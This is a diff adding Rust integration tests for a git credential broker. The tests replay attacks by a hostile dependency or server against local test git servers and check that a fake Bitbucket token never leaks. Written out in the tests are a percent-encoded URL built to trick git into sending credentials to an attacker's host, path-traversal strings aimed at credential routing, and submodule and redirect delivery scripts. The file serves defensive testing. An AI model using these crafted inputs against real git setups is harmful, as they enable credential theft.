@@ -1,0 +1,378 @@
+//! The attacks of a hostile dependency, a hostile server or another job on
+//! the agent (issue 23), each against the built binary, real git (both
+//! versions on the machine) and the git smart-HTTP server, with a fake token
+//! of the real length. Each test names the attack it replays.
+
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use crate::support::git_server::{GitServer, create_repo, run_git};
+use crate::support::{Bb, LONG_ACCESS_TOKEN, Run, assert_no_leak};
+
+const TOKEN_USER: &str = "x-token-auth";
+
+/// An agent with the classic `credential.helper=store` in its global config,
+/// a Bitbucket-shaped server holding `acme/app` (and whatever the test adds)
+/// that accepts the long token, and an attacker's server that accepts nothing
+/// and records every `Authorization` it is sent.
+struct Agent {
+    root: tempfile::TempDir,
+    server: GitServer,
+    evil: GitServer,
+    bb: Bb,
+    git: PathBuf,
+}
+
+impl Agent {
+    fn new(git: &Path) -> Self {
+        let root = tempfile::tempdir().expect("tempdir");
+        create_repo(root.path(), "acme/app", &[("README.md", b"app\n")]);
+        let evil_root = root.path().join("evil-server");
+        create_repo(&evil_root, "evil/x", &[("README.md", b"evil\n")]);
+        let evil = GitServer::builder(&evil_root).git(git).start();
+        let server = GitServer::builder(root.path())
+            .user(TOKEN_USER, LONG_ACCESS_TOKEN)
+            .git(git)
+            .start();
+        let bb = Bb::new()
+            .env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN)
+            .env("RUST_LOG", "debug");
+        std::fs::write(
+            bb.home().join(".gitconfig"),
+            "[credential]\n\thelper = store\n[user]\n\tname = CI\n\temail = ci@example.invalid\n[init]\n\tdefaultBranch = main\n[protocol \"file\"]\n\tallow = always\n",
+        )
+        .expect("gitconfig");
+        Self {
+            root,
+            server,
+            evil,
+            bb,
+            git: git.to_path_buf(),
+        }
+    }
+
+    fn exec(&self, extra: &[&str], script: &str) -> Run {
+        let url = self.server.url();
+        let output = self
+            .bb
+            .command()
+            .args(["exec", "--no-preflight", "--git-url", &url])
+            .args(extra)
+            .args(["--", "sh", "-c", script])
+            .env("GIT", &self.git)
+            .stdin(Stdio::null())
+            .output()
+            .expect("run");
+        Run::from(output)
+    }
+
+    /// No form of the token reached the attacker, the output, any file, or
+    /// `~/.git-credentials`.
+    fn assert_nothing_reached_the_attacker(&self, run: &Run, what: &str) {
+        let seen = self.evil.authorizations();
+        assert!(
+            seen.iter().all(|a| !a.contains(LONG_ACCESS_TOKEN)),
+            "{what}: {}: the attacker's server received the token\n{}",
+            self.git.display(),
+            run.describe()
+        );
+        assert!(
+            !self.bb.home().join(".git-credentials").exists(),
+            "{what}: ~/.git-credentials was written"
+        );
+        assert_no_leak(
+            run,
+            self.bb.dir.path(),
+            LONG_ACCESS_TOKEN,
+            &[TOKEN_USER],
+            &[],
+        );
+    }
+}
+
+/// The hostile URL of issue 23 §1: git authenticates to the attacker's host,
+/// while a URL parser reading git's prompt sees the allowed one.
+fn confusing_url(allowed_port: u16, evil: &GitServer) -> String {
+    format!(
+        "http://127.0.0.1%3A{allowed_port}%5Cacme%5Capp.git%23@127.0.0.1:{}/evil/x.git",
+        evil.port()
+    )
+}
+
+/// A superproject `acme/app` whose `.gitmodules` names `url`, pushed to `root`.
+fn superproject_with(root: &Path, url: &str) {
+    let work = tempfile::tempdir().expect("tempdir");
+    run_git(work.path(), &["init", "--quiet", "--initial-branch=main"]);
+    let lib = create_repo(root, "acme/lib", &[("README.md", b"lib\n")]);
+    let sha = run_git(&lib, &["rev-parse", "main"]);
+    run_git(
+        work.path(),
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("160000,{},lib", sha.trim()),
+        ],
+    );
+    std::fs::write(
+        work.path().join(".gitmodules"),
+        format!("[submodule \"lib\"]\n\tpath = lib\n\turl = {url}\n"),
+    )
+    .expect("gitmodules");
+    run_git(work.path(), &["add", ".gitmodules"]);
+    run_git(work.path(), &["commit", "--quiet", "-m", "super"]);
+    let bare = root.join("acme/app.git");
+    run_git(
+        work.path(),
+        &[
+            "push",
+            "--quiet",
+            "--force",
+            bare.to_str().expect("utf8"),
+            "main",
+        ],
+    );
+}
+
+#[test]
+fn askpass_never_answers_a_prompt_that_names_the_allowed_host_only_in_its_user_name() {
+    for git in crate::support::gits_on_path() {
+        let agent = Agent::new(&git);
+        let hostile = confusing_url(agent.server.port(), &agent.evil);
+        // Any host the build fetches from may redirect there.
+        let mirror_root = agent.root.path().join("mirror");
+        std::fs::create_dir_all(&mirror_root).expect("mkdir");
+        let mirror = GitServer::builder(&mirror_root)
+            .git(&git)
+            .redirect("/tools/x.git", &hostile)
+            .start();
+        superproject_with(agent.root.path(), &hostile);
+        for sanitize in ["false", "true"] {
+            let deliveries = [
+                ("a direct URL", format!("\"$GIT\" ls-remote '{hostile}'")),
+                (
+                    "a redirect",
+                    format!("\"$GIT\" ls-remote {}/tools/x.git", mirror.url()),
+                ),
+                (
+                    "a submodule",
+                    format!(
+                        "rm -rf sub && \"$GIT\" clone -q {}/acme/app.git sub && \"$GIT\" -C sub submodule update --init",
+                        agent.server.url()
+                    ),
+                ),
+            ];
+            for (what, script) in deliveries {
+                let run = agent.exec(
+                    &["--allow-repo", "acme/app"],
+                    &format!(
+                        "export GIT_CONFIG_PARAMETERS=\"'credential.sanitizeprompt'='{sanitize}'\"; {script}"
+                    ),
+                );
+                let what = format!("{what}, sanitizePrompt={sanitize}");
+                assert_ne!(run.code(), 0, "{what}: {}", run.describe());
+                // The prompt reached askpass (git did not stop it first) and was refused.
+                assert!(
+                    run.stderr.contains("askpass: git's prompt names"),
+                    "{what}: {}: {}",
+                    git.display(),
+                    run.describe()
+                );
+                agent.assert_nothing_reached_the_attacker(&run, &what);
+            }
+        }
+        // The allowed repository still works through the same door.
+        let ok = agent.exec(
+            &["--allow-repo", "acme/app"],
+            &format!(
+                "\"$GIT\" -c credential.sanitizePrompt=false ls-remote {}/acme/app.git",
+                agent.server.url()
+            ),
+        );
+        assert_eq!(ok.code(), 0, "{}", ok.describe());
+        agent.assert_nothing_reached_the_attacker(&ok, "the allowed repository");
+    }
+}
+
+/// A second credential, for a partner's repository (issue 23 §4's config).
+const PARTNER_TOKEN: &str = "ATATT3xFAKE-partner-token-0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000";
+
+#[test]
+fn a_path_that_needs_normalising_is_refused_never_resolved_into_an_allowed_repository() {
+    let git = crate::support::gits_on_path()[0].clone();
+    let agent = Agent::new(&git);
+    create_repo(agent.root.path(), "evil/x", &[("README.md", b"x\n")]);
+    create_repo(agent.root.path(), "partner/lib", &[("README.md", b"lib\n")]);
+    agent
+        .server
+        .users()
+        .accept("x-bitbucket-api-token-auth", PARTNER_TOKEN);
+    let config = "credentials:\n  - name: acme\n    kind: access_token\n    match: [acme]\n    secret_env: ACME_TOKEN\n  - name: partner\n    kind: api_token\n    match: [partner/lib]\n    secret_env: PARTNER_TOKEN\n";
+    let config_path = agent.bb.file("bbinject.yaml", config.as_bytes(), 0o600);
+    // One credential from the environment (every path routes to it), or the
+    // config's two, routed by repository.
+    let exec_with = |config: bool, script: &str| {
+        let mut command = agent.bb.command();
+        command.args(["exec", "--no-preflight", "--audit-log", "-", "--git-url"]);
+        command.arg(agent.server.url());
+        if config {
+            command
+                .env_remove("BITBUCKET_ACCESS_TOKEN")
+                .env("ACME_TOKEN", LONG_ACCESS_TOKEN)
+                .env("PARTNER_TOKEN", PARTNER_TOKEN)
+                .args(["--config", &config_path.display().to_string()]);
+        }
+        let output = command
+            .args(["--allow-repo", "acme/app", "--", "sh", "-c", script])
+            .env("GIT", &git)
+            .stdin(Stdio::null())
+            .output()
+            .expect("run");
+        Run::from(output)
+    };
+    let exec = |script: &str| exec_with(true, script);
+    let fill = |path: &str| {
+        format!(
+            "printf 'protocol=http\\nhost=127.0.0.1:{}\\npath=%s\\n\\n' '{path}' | \"$GIT\" credential fill",
+            agent.server.port()
+        )
+    };
+    // §3 (a query or fragment) and §4 (dot segments routed on the raw path).
+    for path in [
+        "evil/x.git/info/refs?/../../../../acme/app.git",
+        "evil/x.git#/../../acme/app.git",
+        "partner/lib/../../acme/app.git",
+        "acme/app.git/../../evil/x.git",
+        "acme/app.git/../../partner/lib.git",
+        "acme/lib/../app.git",
+        "acme%2Fapp.git",
+        "/acme//app.git",
+    ] {
+        for config in [false, true] {
+            let run = exec_with(config, &fill(path));
+            assert!(
+                !run.stdout.contains("password="),
+                "{path} (config: {config}): a credential was given\n{}",
+                run.describe()
+            );
+            assert!(
+                run.stderr.contains("refused, never normalised"),
+                "{path}: {}",
+                run.describe()
+            );
+            assert!(
+                run.stderr.contains("\"reason\":\"path-not-canonical\""),
+                "{path}: the refusal is audited\n{}",
+                run.describe()
+            );
+            assert_no_leak(
+                &run,
+                agent.bb.dir.path(),
+                LONG_ACCESS_TOKEN,
+                &[TOKEN_USER],
+                &[],
+            );
+            assert_no_leak(
+                &run,
+                agent.bb.dir.path(),
+                PARTNER_TOKEN,
+                &["x-bitbucket-api-token-auth"],
+                &[],
+            );
+        }
+    }
+    // The same through git itself: the URL's query reaches the helper's path.
+    let run = exec_with(
+        false,
+        &format!(
+            "\"$GIT\" ls-remote '{}/evil/x.git/info/refs?/../../../../acme/app.git'",
+            agent.server.url()
+        ),
+    );
+    assert_ne!(run.code(), 0, "{}", run.describe());
+    assert!(
+        agent.server.authorizations_for("evil/x").is_empty(),
+        "{:?}",
+        agent.server.authorizations()
+    );
+    // The allowed repository, named plainly, is answered with acme's token.
+    let run = exec(&fill("acme/app.git"));
+    assert!(run.stdout.contains("password="), "{}", run.describe());
+    assert!(
+        run.stderr.contains("\"repository\":\"acme/app\""),
+        "{}",
+        run.describe()
+    );
+}
+
+#[test]
+fn an_authenticated_retry_is_not_followed_to_another_repository() {
+    for git in crate::support::gits_on_path() {
+        let root = tempfile::tempdir().expect("tempdir");
+        create_repo(root.path(), "acme/app", &[("README.md", b"app\n")]);
+        create_repo(root.path(), "evil/x", &[("README.md", b"x\n")]);
+        // The server itself (or whatever sits in front of it) sends the
+        // authenticated retry of acme/app to evil/x on the same host: git
+        // never asks the broker about evil/x.
+        let server = GitServer::builder(root.path())
+            .user(TOKEN_USER, LONG_ACCESS_TOKEN)
+            .git(&git)
+            .redirect_authenticated("/acme/app.git", "/evil/x.git")
+            .start();
+        let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
+        let run = |extra: &[&str]| {
+            let output = bb
+                .command()
+                .args(["exec", "--no-preflight", "--git-url"])
+                .arg(server.url())
+                .args(extra)
+                .args(["--", "sh", "-c", "\"$GIT\" ls-remote \"$URL\""])
+                .env("GIT", &git)
+                .env("URL", format!("{}/acme/app.git", server.url()))
+                .stdin(Stdio::null())
+                .output()
+                .expect("run");
+            Run::from(output)
+        };
+        let allowed = run(&["--allow-repo", "acme/app"]);
+        assert_ne!(allowed.code(), 0, "{}", allowed.describe());
+        assert!(
+            server.authorizations_for("evil/x").is_empty(),
+            "{}: the redirect carried the credential to evil/x: {:?}\n{}",
+            git.display(),
+            server.authorizations(),
+            allowed.describe()
+        );
+        assert_no_leak(
+            &allowed,
+            bb.dir.path(),
+            LONG_ACCESS_TOKEN,
+            &[TOKEN_USER],
+            &[],
+        );
+    }
+}
+
+#[test]
+fn a_huge_git_config_count_is_refused_before_anything_runs() {
+    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
+    for count in ["18446744073709551615", "18446744073709551614", "100000"] {
+        let marker = bb.path("ran");
+        let output = bb
+            .command()
+            .env("GIT_CONFIG_COUNT", count)
+            .args(["exec", "--no-preflight", "--", "touch"])
+            .arg(&marker)
+            .stdin(Stdio::null())
+            .output()
+            .expect("run");
+        let run = Run::from(output);
+        assert_eq!(run.code(), 2, "{count}: {}", run.describe());
+        assert!(
+            run.stderr.contains("GIT_CONFIG_COUNT") && !run.stderr.contains("panicked"),
+            "{count}: {}",
+            run.describe()
+        );
+        assert!(!marker.exists(), "{count}: the command ran");
+    }
+}
